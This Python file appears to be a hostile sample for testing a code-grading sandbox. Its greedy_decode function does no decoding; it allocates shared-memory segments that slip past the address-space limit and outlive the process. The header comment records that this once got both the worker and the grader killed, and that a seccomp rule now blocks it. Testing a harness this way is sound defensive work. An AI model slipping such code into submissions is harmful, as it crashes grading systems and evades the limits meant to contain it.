# Memory outside the address-space limit that outlives the process: System V shared-memory segments
# of 128 MB, each attached, touched and detached (so RLIMIT_AS sees one at a time), up to 1 GB, made
# with ctypes. A segment stays until it is removed: in a 768 MB grading with bubblewrap the OOM
# killer took the worker, then the grader (a fault result). The worker's seccomp filter refuses shmget.
import ctypes as _ctypes

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmget.restype, _libc.shmget.argtypes = _ctypes.c_int, [_ctypes.c_int, _ctypes.c_size_t, _ctypes.c_int]
_libc.shmat.restype, _libc.shmat.argtypes = _ctypes.c_void_p, [_ctypes.c_int, _ctypes.c_void_p, _ctypes.c_int]
_libc.shmdt.restype, _libc.shmdt.argtypes = _ctypes.c_int, [_ctypes.c_void_p]
_SEGMENT, _IPC_PRIVATE, _IPC_CREAT = 128 << 20, 0, 0o1000


def greedy_decode(params, cfg, prompt, n_new):
    made = 0
    for _ in range(8):
        shmid = _libc.shmget(_IPC_PRIVATE, _SEGMENT, _IPC_CREAT | 0o600)
        if shmid < 0:
            print("HOSTILE shmget refused, errno", _ctypes.get_errno())
            break
        address = _libc.shmat(shmid, None, 0)
        if address in (None, _ctypes.c_void_p(-1).value):
            print("HOSTILE shmat refused, errno", _ctypes.get_errno())
            break
        _ctypes.memset(address, 1, _SEGMENT)
        _libc.shmdt(address)
        made += 1
    print("HOSTILE segments made:", made)
    raise NotImplementedError("greedy_decode (task greedy_decode)")
